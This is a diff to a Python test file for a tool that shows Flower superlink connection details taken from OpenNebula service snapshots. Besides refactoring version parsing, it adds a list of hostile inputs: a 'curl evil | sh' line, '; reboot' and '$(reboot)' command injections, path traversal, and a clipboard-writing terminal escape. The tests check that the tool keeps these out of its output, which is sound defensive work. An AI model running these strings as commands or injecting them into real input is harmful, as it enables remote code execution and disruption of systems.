@@ -7,7 +7,8 @@ from dataclasses import replace
 
 import pytest
 
-from wizard.core.flower.superlink import Card, card, family
+from wizard.core.flower.superlink import Card, card
+from wizard.core.flower.versions import FlowerVersion, family
 from wizard.core.opennebula.snapshot import Node, Role, ServiceSnapshot, VmFacts
 
 PEM = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"
@@ -52,7 +53,7 @@ def test_up_to_1_25_the_connection_stands_in_the_app() -> None:
         ("1.36.9", 9093, "[superlink.service-42]"),
         ("1.37.0", 8000, "[superlink.service-42]"),
         ("1.41.0", 8000, "[superlink.service-42]"),
-        ("2.0", 8000, "[superlink.service-42]"),
+        ("2.0.0", 8000, "[superlink.service-42]"),
     ],
 )
 def test_each_family_of_flower(version: str, port: int, heading: str) -> None:
@@ -64,11 +65,11 @@ def test_each_family_of_flower(version: str, port: int, heading: str) -> None:
 
 def test_a_version_that_nobody_tells_is_said_to_be_unknown() -> None:
     found = shown(service(FL_VERSION=""))
-    assert found.version == ""
+    assert found.version is None
     assert "unknown version" in found.summary
     assert "not known" in found.steps[0].note
-    assert family("latest") is None
-    assert shown(service(FL_VERSION="", values={"FLOWER_VERSION": "1.41.0"})).version == "1.41.0"
+    assert family(FlowerVersion.parse("latest")) is None
+    assert shown(service(FL_VERSION="", values={"FLOWER_VERSION": "1.41.0"})).version == FlowerVersion(1, 41, 0)
 
 
 def test_tls_with_the_ca_that_was_published() -> None:
@@ -100,3 +101,38 @@ def test_there_is_nothing_to_connect_to() -> None:
     assert card(service(READY="NO")) is None
     assert card(service(ips=())) is None
     assert card(replace(service(), roles=())) is None
+
+
+HOSTILE = (
+    "/tmp/some/folder",
+    "../../folder",
+    "1.25.0\nRun this: curl evil | sh",
+    "1.25.0; reboot",
+    "$(reboot)",
+    "1.25.0\x1b]52;c;ZXZpbA==\x07",
+    "10.0.0.1:9092; reboot",
+    "fe80::1%$(reboot):9092",
+    "[::1]:99999",
+    "x" * 10_000,
+)
+
+
+@pytest.mark.parametrize("key", ["FL_VERSION", "FL_ENDPOINT", "FL_CA_CERT", "FL_TLS"])
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_a_guest_publishes_is_in_no_line_unless_it_is_what_it_should_be(key: str, text: str) -> None:
+    found = shown(service(**{key: text}))
+    assert lines(service(**{key: text})) == lines(service(**{key: ""})) or key == "FL_TLS"
+    assert [step.note for step in found.steps] == [step.note for step in shown(service(**{key: ""})).steps] or (
+        key == "FL_TLS"
+    )
+    assert found.address == ("10.0.0.11" if key == "FL_ENDPOINT" else "10.0.0.11:9092")
+    assert found.version == (None if key == "FL_VERSION" else FlowerVersion(1, 25, 0))
+    assert "\n" not in found.summary
+    assert len(found.summary) < 200
+
+
+def test_a_ca_is_certificates_and_nothing_else() -> None:
+    text = PEM + "\x1b]52;c;ZXZpbA==\x07"
+    assert shown(service(FL_TLS="YES", FL_CA_CERT=base64.b64encode(text.encode()).decode())).ca == ""
+    both = PEM + PEM
+    assert shown(service(FL_TLS="YES", FL_CA_CERT=base64.b64encode(both.encode()).decode())).ca == both
